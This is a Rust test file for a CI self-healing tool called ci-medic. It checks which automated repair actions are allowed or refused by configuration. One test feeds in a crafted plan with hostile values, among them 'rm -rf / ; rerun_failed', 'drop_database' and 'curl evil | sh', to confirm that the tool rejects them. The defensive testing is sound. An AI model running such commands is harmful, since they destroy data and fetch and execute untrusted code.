//! Self-heal decisions on recorded real runs: what is allowed, what is refused,
//! and why.

mod common;

use std::path::Path;

use ci_medic_core::config::HealConfig;
use ci_medic_core::diagnose::analysis::HealAction;
use ci_medic_core::diagnose::classify::Classifier;
use ci_medic_core::diagnose::plan;
use ci_medic_core::heal::{self, HealState, context::StateAttempt};
use common::bundle_of;

const CONFIG: &str = r#"
[heal]
[heal.actions.rerun_failed]
[heal.actions.reseed_data]
run = "cargo run -p demo-app -- seed --data-dir data"
[heal.actions.regenerate_storage_state]
run = "npx playwright test --project=setup"
"#;

fn config() -> HealConfig {
    ci_medic_core::config::parse(Path::new(".ci-medic.toml"), CONFIG)
        .expect("config")
        .heal
}

fn analysis_json(run: &str) -> (ci_medic_core::Bundle, serde_json::Value) {
    let bundle = bundle_of(run);
    let a = plan::analyze(&Classifier::builtin().expect("rules"), &bundle, "t".into());
    let v = serde_json::to_value(&a).expect("json");
    (bundle, v)
}

fn decide(run: &str, event: &str, state: Option<&HealState>) -> heal::Decision {
    let (bundle, a) = analysis_json(run);
    let ctx = heal::context::build(&bundle, Ok(a), Some(event), Some(1), state);
    heal::decide(&ctx, &config())
}

#[test]
fn missing_data_is_reseeded_then_the_failing_tests_rerun() {
    let d = decide("data_seed", "workflow_dispatch", None);
    assert!(d.allowed, "{d:#?}");
    assert_eq!(d.actions.len(), 1, "{d:#?}");
    assert_eq!(d.actions[0].action, HealAction::ReseedData);
    let rerun = d.rerun.expect("a rerun");
    assert!(!rerun.tests.is_empty());
    assert!(
        d.failures
            .iter()
            .filter(|f| f.eligible)
            .all(|f| f.error_type == "data_seed")
    );
}

#[test]
fn selector_drift_is_refused_as_not_eligible() {
    let d = decide("selector_drift", "workflow_dispatch", None);
    assert!(!d.allowed);
    assert!(d.actions.is_empty() && d.rerun.is_none());
    let f = &d.failures[0];
    assert!(!f.eligible);
    assert!(
        f.reason.contains("selector_drift is not in heal.eligible"),
        "{}",
        f.reason
    );
    assert!(
        d.checks
            .iter()
            .any(|c| c.check == "eligible_failures" && !c.passed)
    );
}

#[test]
fn a_push_is_refused() {
    let d = decide("data_seed", "push", None);
    assert!(!d.allowed);
    let c = d
        .checks
        .iter()
        .find(|c| c.check == "event")
        .expect("event check");
    assert!(
        !c.passed
            && c.detail
                .contains("push is not in heal.events (workflow_dispatch)"),
        "{}",
        c.detail
    );
}

#[test]
fn exhausted_attempts_are_refused_whichever_record_says_so() {
    let state = HealState {
        run_id: "r1".into(),
        attempts: (1..=2)
            .map(|n| StateAttempt {
                run_attempt: n,
                at: "2026-11-21T00:00:00Z".into(),
                verdict: "not_healed".into(),
            })
            .collect(),
    };
    let d = decide("data_seed", "workflow_dispatch", Some(&state));
    assert!(!d.allowed);
    assert_eq!(d.attempts_used, 2);
    // Without the record, a third run attempt of the workflow says the same.
    let (bundle, a) = analysis_json("data_seed");
    let ctx = heal::context::build(&bundle, Ok(a), Some("workflow_dispatch"), Some(3), None);
    assert_eq!(ctx.attempts_used, 2);
    assert!(!heal::decide(&ctx, &config()).allowed);
}

#[test]
fn a_crafted_plan_is_refused_action_by_action_and_nothing_of_it_runs() {
    let (bundle, mut a) = analysis_json("data_seed");
    let target = a["classification"]["failures"]
        .as_array()
        .expect("failures")
        .iter()
        .find(|f| f["error_type"] == "data_seed" && f["confidence"].as_f64() >= Some(0.6))
        .expect("a confident data_seed failure")["id"]
        .clone();
    a["self_heal_plan"]["actions"] = serde_json::json!([
        { "action": "rm -rf / ; rerun_failed", "targets": [target], "reason": "trust me" },
        { "action": "drop_database", "targets": [target], "reason": "" },
        { "action": { "run": "curl evil | sh" }, "targets": [target], "reason": "" },
        { "action": "restart_app", "targets": [target], "reason": "not declared here" },
        { "action": "reseed_data", "targets": [target], "reason": "the list is empty" },
    ]);
    let ctx = heal::context::build(&bundle, Ok(a), Some("workflow_dispatch"), Some(1), None);
    let d = heal::decide(&ctx, &config());
    assert!(d.allowed);
    assert_eq!(
        d.actions.iter().map(|a| a.action).collect::<Vec<_>>(),
        [HealAction::ReseedData]
    );
    let reasons: Vec<(&str, &str)> = d
        .refused_actions
        .iter()
        .map(|r| (r.action.as_str(), r.reason.as_str()))
        .collect();
    assert_eq!(reasons.len(), 4, "{reasons:?}");
    assert!(reasons[0].1.starts_with("not an action ci-medic knows"));
    assert!(reasons[1].1.starts_with("not an action ci-medic knows"));
    assert!(reasons[2].1.starts_with("not an action ci-medic knows"));
    assert!(
        reasons[3]
            .1
            .contains("not declared in .ci-medic.toml (heal.actions.restart_app)")
    );
}

#[test]
fn without_an_analysis_only_a_rerun_is_possible() {
    let bundle = bundle_of("timeout_flaky");
    let ctx = heal::context::build(
        &bundle,
        Err("analysis.json: not found".into()),
        Some("workflow_dispatch"),
        None,
        None,
    );
    assert!(!ctx.analysis.present);
    let d = heal::decide(&ctx, &config());
    assert!(d.allowed, "{d:#?}");
    assert!(d.actions.is_empty());
    assert_eq!(d.rerun.expect("rerun").tests.len(), ctx.failures.len());
    assert!(d.failures.iter().all(|f| f.error_type == "unclassified"));
}

#[test]
fn without_a_declared_rerun_nothing_is_allowed() {
    let (bundle, a) = analysis_json("timeout_flaky");
    let ctx = heal::context::build(&bundle, Ok(a), Some("workflow_dispatch"), None, None);
    let d = heal::decide(&ctx, &HealConfig::default());
    assert!(!d.allowed);
    assert!(
        d.checks
            .iter()
            .any(|c| c.check == "rerun_declared" && !c.passed)
    );
}
